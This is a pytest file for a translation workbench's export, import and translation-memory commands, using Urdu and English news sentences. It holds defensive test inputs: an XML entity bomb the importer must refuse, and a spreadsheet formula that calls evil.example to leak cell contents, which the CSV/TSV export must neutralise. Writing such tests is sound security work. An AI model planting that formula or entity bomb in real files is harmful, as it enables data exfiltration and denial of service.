"""`workbench export`, `workbench import` and `workbench tm`: files, counts, exit codes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from lxml import etree
from translate.storage.xliff2 import Xliff2File

from tests.fixtures.hostile_xml import billion_laughs
from workbench.cli import main
from workbench.exchange.registry import format_names
from workbench.exchange.tmx import read_tmx
from workbench.memory.source import tm_entry_counts
from workbench.store import Origin

FIXTURES = Path(__file__).parent.parent / "fixtures"
TWO_TARGETS = FIXTURES / "tmx" / "two-targets-inline.tmx"
TMX14_DTD = etree.DTD(str(FIXTURES / "tmx14.dtd"))


def test_export_writes_a_valid_tmx_of_every_translated_segment(
    db_url, translated, tmp_path, capsys
):
    out = tmp_path / "talks.tmx"
    argv = ["export", "talks.txt", "--to", "ur", "--segments", "translated", "--out", str(out)]
    assert main([*argv, "--db", db_url]) == 0
    assert TMX14_DTD.validate(etree.parse(str(out)))
    assert [u.targets["ur"] for u in read_tmx(out)] == ["MT0", "MT1", "MT2", "MT3"]
    assert f"4 segments of 'talks.txt' (ur) → {out}" in capsys.readouterr().err


def test_tmx_export_carries_each_segments_qa_flags_as_notes(db_url, translated, tmp_path):
    out = tmp_path / "talks.tmx"
    argv = ["export", "talks.txt", "--to", "ur", "--segments", "translated", "--out", str(out)]
    assert main([*argv, "--db", db_url]) == 0
    assert TMX14_DTD.validate(etree.parse(str(out)))
    notes = {u.source: u.notes for u in read_tmx(out)}
    assert any("ٹی ٹی پی" in note for note in notes["The TTP was discussed."])  # the glossary
    assert all(any(n.startswith("QA ") for n in unit_notes) for unit_notes in notes.values())


def test_tmx_export_without_qa_notes(db_url, translated, tmp_path):
    out = tmp_path / "talks.tmx"
    argv = ["export", "talks.txt", "--to", "ur", "--segments", "translated", "--out", str(out)]
    assert main([*argv, "--no-qa-notes", "--db", db_url]) == 0
    assert all(unit.notes == () for unit in read_tmx(out))


def test_export_of_a_document_with_nothing_confirmed_says_how_to_get_everything(
    db_url, translated, tmp_path, capsys
):
    out = tmp_path / "talks.tmx"
    assert (
        main(["export", str(translated.id), "--to", "ur", "--out", str(out), "--db", db_url]) == 0
    )
    assert list(read_tmx(out)) == []
    assert "--segments translated" in capsys.readouterr().err


@pytest.mark.parametrize(("fmt", "suffix"), [("xliff", ".xlf"), ("tsv", ".tsv"), ("csv", ".csv")])
def test_export_format_follows_the_out_extension(db_url, translated, tmp_path, fmt, suffix):
    out = tmp_path / f"talks{suffix}"
    assert main(["export", "talks.txt", "--to", "ur", "--out", str(out), "--db", db_url]) == 0
    head = out.read_bytes()[:200]
    assert {"xliff": b"urn:oasis:names:tc:xliff", "tsv": b"document\t", "csv": b"\xef\xbb\xbf"}[
        fmt
    ] in head


def test_export_of_an_unknown_document_is_one_line_and_exit_2(db_url, document, capsys):
    assert main(["export", "nope.txt", "--to", "ur", "--format", "tmx", "--db", db_url]) == 2
    err = capsys.readouterr().err
    assert err.startswith("workbench: error: no stored document 'nope.txt'")
    assert err.count("\n") == 1


def test_import_brings_an_edited_xliff_back(db_url, store, translated, tmp_path, capsys):
    exported = tmp_path / "talks.xlf"
    main(["export", "talks.txt", "--to", "ur", "--out", str(exported), "--db", db_url])
    edited = Xliff2File.parsefile(str(exported))
    edited.units[0].target = "کابل میں مذاکرات"
    edited.units[0].xmlelement.set("state", "final")
    edited.savefile(str(exported))
    assert main(["import", str(exported), "--author", "reviewer", "--db", db_url]) == 0
    assert "added 1 revisions (1 confirmed)" in capsys.readouterr().out
    head = store.current_revision(store.segments(translated.id)[0].id, "ur")
    assert (head.text, head.author) == ("کابل میں مذاکرات", "reviewer")


def test_tm_import_reports_counts_and_reasons(db_url, store, capsys):
    assert main(["tm", "import", str(TWO_TARGETS), "--db", db_url]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "two-targets-inline.tmx: 5 units read",
        "imported 4 entries (fa-AF 1, ps-AF 1, ur-PK 2)",
        "skipped 2",
        "  1 no source text in en",
        "  1 no target text",
    ]
    assert main(["tm", "import", str(TWO_TARGETS), "--to", "ur", "--db", db_url]) == 0
    assert "  2 already in the memory" in capsys.readouterr().out.splitlines()
    assert tm_entry_counts(store) == {"ur-PK": 2, "fa-AF": 1, "ps-AF": 1}


def test_tm_import_of_a_malformed_file_imports_nothing(db_url, store, tmp_path, capsys):
    broken = tmp_path / "broken.tmx"
    broken.write_text(
        TWO_TARGETS.read_text(encoding="utf-8").replace("</body>", "</bdy>"), encoding="utf-8"
    )
    assert main(["tm", "import", str(broken), "--db", db_url]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"workbench: error: {broken}:") and "not well-formed" in err
    assert tm_entry_counts(store) == {}


def test_tm_import_refuses_an_entity_bomb(db_url, store, tmp_path, capsys):
    bomb = tmp_path / "bomb.tmx"
    bomb.write_bytes(billion_laughs('<tmx version="1.4"><header/><body>PAYLOAD</body></tmx>'))
    assert main(["tm", "import", str(bomb), "--db", db_url]) == 2
    assert "entity" in capsys.readouterr().err
    assert tm_entry_counts(store) == {}


def test_tm_lookup_shows_score_diff_and_target(db_url, store, capsys):
    main(["tm", "import", str(TWO_TARGETS), "--db", db_url])
    capsys.readouterr()
    query = "Relations between Pakistan and Afghanistan have hit a new low."
    assert main(["tm", "lookup", query, "--to", "ur", "--db", db_url]) == 0
    out = capsys.readouterr().out
    assert "81.8% fuzzy  (two-targets-inline.tmx)" in out
    assert "[-another-] {+a new+}" in out
    assert "پاکستان اور افغانستان کے تعلقات" in out


def test_tm_lookup_without_a_match_says_so(db_url, store, capsys):
    assert main(["tm", "lookup", "Nothing like it.", "--to", "ur", "--db", db_url]) == 0
    assert capsys.readouterr().out.startswith("no match at or above 75%")


def test_tm_lookup_names_the_document_and_sentence_of_a_post_edit(
    db_url, store, translated, capsys
):
    first = store.segments(translated.id)[0]
    head = store.current_revision(first.id, "ur")
    store.save_revision(
        first.id, "ur", "پاکستان اور افغانستان نے کابل میں مذاکرات کیے۔", "amina", head.id
    )
    assert main(["tm", "lookup", first.text, "--to", "ur", "--db", db_url]) == 0
    assert "100.0% exact  (human)  from talks.txt #1" in capsys.readouterr().out


def test_export_format_choices_are_the_registered_formats(capsys):
    with pytest.raises(SystemExit):
        main(["export", "talks.txt", "--to", "ur", "--format", "docx"])
    choices = capsys.readouterr().err.split("(choose from ")[1].split(")")[0]
    assert choices.replace("'", "").split(", ") == format_names() == ["tmx", "xliff", "tsv", "csv"]


@pytest.mark.parametrize(("suffix", "delimiter"), [(".csv", ","), (".tsv", "\t")])
def test_a_spreadsheet_export_neutralises_sentences_that_look_like_formulas(
    db_url, store, tmp_path, suffix, delimiter
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"news")'
    document = store.add_document("formula.txt", f"{hostile}\n\n-5 degrees in Kabul.")
    segments = store.segments(document.id)
    store.append_revisions(
        "ur", {segments[1].id: "+کابل میں منفی پانچ ڈگری۔"}, "amna", Origin.HUMAN
    )
    out = tmp_path / f"formula{suffix}"
    assert main(["export", "formula.txt", "--to", "ur", "--out", str(out), "--db", db_url]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=delimiter))
    assert [(row[3], row[4]) for row in rows[1:]] == [
        ("'" + hostile, ""),
        ("'-5 degrees in Kabul.", "'+کابل میں منفی پانچ ڈگری۔"),
    ]
